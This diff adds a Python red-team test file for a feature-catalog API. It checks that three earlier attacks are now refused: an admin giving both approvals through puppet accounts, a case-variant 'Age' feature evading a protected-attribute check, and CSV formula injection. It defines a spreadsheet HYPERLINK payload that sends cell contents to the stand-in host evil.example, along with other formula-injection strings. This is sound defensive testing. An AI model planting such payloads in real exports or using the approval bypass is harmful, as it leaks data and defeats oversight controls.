@@ -1,0 +1,126 @@
+"""Red team of the feature catalog (issue 22) and of exports/sessions (issue 19). Each test is an attack that
+succeeded on ``merge-trial`` and is refused now:
+
+- an admin with two puppet accounts (whose tokens the admin issued, so holds) gives both approvals a ``proxy``
+  removal needs: one human, two approvals;
+- a new feature named ``Age`` beside ``age`` (protected_attribute): a spec that lists ``Age`` carries the same
+  column through the credit policy's "no protected attribute" check untagged;
+- a display name ``=HYPERLINK(...)`` lands in the audit CSV as a live spreadsheet formula.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+from sqlalchemy import update
+
+from api.exports import csv_cell
+from engine.db import Feature, User
+from testing.api import ApiEnv
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+
+
+async def _tags(env: ApiEnv, name: str) -> list[str]:
+    async with env.sessionmaker() as session:
+        row = await session.get(Feature, name, populate_existing=True)
+        assert row is not None
+        return list(row.tags)
+
+
+async def _puppet(env: ApiEnv, username: str) -> None:
+    """An account the admin creates: its initial token is in the admin's answer, so the admin holds it."""
+    r = await env.http.post("/api/v1/users", headers=env.auth("adam"),
+                            json={"username": username, "roles": ["model_developer"], "team": "retail-risk"})
+    assert r.status_code == 201, r.text
+    body = r.json()
+    assert body["token"] is not None and body["token"]["issued_by"] == "adam", body
+    env.tokens[username], env.user_ids[username] = body["token"]["token"], body["user"]["id"]
+
+
+async def _remove_proxy_from_zip_code(env: ApiEnv, who: str) -> str:
+    tags = [t for t in await _tags(env, "zip_code") if t != "proxy"]
+    r = await env.http.post("/api/v1/features/proposals", headers=env.auth(who),
+                            json={"feature": "zip_code", "tags": tags, "comment": "not a proxy really"})
+    assert r.status_code == 201 and r.json()["approvals_needed"] == 2, r.text
+    return str(r.json()["id"])
+
+
+async def _approve(env: ApiEnv, who: str, pid: str) -> Any:
+    return await env.http.post(f"/api/v1/features/proposals/{pid}/approval", json={"comment": "fine"},
+                               headers=env.auth(who))
+
+
+async def test_an_admin_cannot_give_both_approvals_through_an_account_whose_token_they_issued(env: ApiEnv) -> None:
+    await _puppet(env, "pup_proposer")
+    await _puppet(env, "pup_owner")
+    # The admin makes one puppet the data owner of zip_code, the other proposes removing its proxy tag.
+    row = (await env.http.get("/api/v1/features/zip_code", headers=env.auth("adam"))).json()
+    r = await env.http.put("/api/v1/features/zip_code", headers=env.auth("adam"),
+                           json={"description": row["description"], "tags": row["tags"], "owner": "pup_owner"})
+    assert r.status_code == 200, r.text
+    pid = await _remove_proxy_from_zip_code(env, "pup_proposer")
+    # The admin approves as admin (the proposer is another account: allowed by "never the proposer")...
+    first = await _approve(env, "adam", pid)
+    assert first.status_code == 403 and first.json()["code"] == "linked_credential", first.text
+    # ... and the data owner's approval made with a token the admin also holds is the admin again.
+    second = await _approve(env, "pup_owner", pid)
+    assert second.status_code == 403 and second.json()["code"] == "linked_credential", second.text
+    assert "proxy" in await _tags(env, "zip_code")
+    state = (await env.http.get(f"/api/v1/features/proposals/{pid}", headers=env.auth("ann"))).json()
+    assert state["status"] == "pending" and state["approvals"] == []
+
+
+async def test_the_owner_account_the_admin_holds_is_not_a_second_approver_after_the_admin(env: ApiEnv) -> None:
+    await _puppet(env, "pup_owner")
+    row = (await env.http.get("/api/v1/features/zip_code", headers=env.auth("adam"))).json()
+    r = await env.http.put("/api/v1/features/zip_code", headers=env.auth("adam"),
+                           json={"description": row["description"], "tags": row["tags"], "owner": "pup_owner"})
+    assert r.status_code == 200, r.text
+    pid = await _remove_proxy_from_zip_code(env, "dana")  # a real developer proposes
+    assert (await _approve(env, "adam", pid)).status_code == 200
+    second = await _approve(env, "pup_owner", pid)
+    assert second.status_code == 403 and second.json()["code"] == "linked_credential", second.text
+    assert "proxy" in await _tags(env, "zip_code")
+
+
+async def test_a_feature_that_differs_from_a_protected_one_by_case_only_is_refused(env: ApiEnv) -> None:
+    assert "protected_attribute" in await _tags(env, "age")
+    r = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
+                            json={"feature": "Age", "description": "Applicant age", "tags": [],
+                                  "comment": "new column"})
+    assert r.status_code == 422 and r.json()["code"] == "feature_name_taken", r.text
+    assert "'age'" in r.json()["message"]
+    put = await env.http.put("/api/v1/features/AGE", headers=env.auth("adam"),
+                             json={"description": "Applicant age", "tags": []})
+    assert put.status_code == 422 and put.json()["code"] == "feature_name_taken", put.text
+    listed = (await env.http.get("/api/v1/features", params={"q": "age"}, headers=env.auth("dana"))).json()
+    assert [f["name"] for f in listed["items"] if f["name"].lower() == "age"] == ["age"]
+    # An existing feature is still changed under its own name.
+    ok = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
+                             json={"feature": "age", "description": "Age of the applicant, in whole years",
+                                   "comment": "clearer"})
+    assert ok.status_code == 201, ok.text
+
+
+async def test_the_audit_csv_does_not_carry_a_display_name_as_a_spreadsheet_formula(env: ApiEnv) -> None:
+    async with env.sessionmaker() as session:
+        await session.execute(update(User).where(User.username == "dana").values(display_name=FORMULA))
+        await session.commit()
+    r = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
+                            json={"feature": "age", "description": "Age of the applicant, in whole years", "comment": "-1+1"})
+    assert r.status_code == 201, r.text
+    export = await env.http.get("/api/v1/audit/export", params={"format": "csv", "actor": "dana"},
+                                headers=env.auth("ann"))
+    assert export.status_code == 200, export.text
+    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8"))))
+    assert rows and all(row["actor_display_name"] == "'" + FORMULA for row in rows), rows
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_a_csv_cell_is_text_when_a_spreadsheet_would_run_it() -> None:
+    for hostile in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(hostile) == "'" + hostile
+    assert csv_cell(None) == "" and csv_cell(-3) == -3 and csv_cell("Vera Schäfer") == "Vera Schäfer"
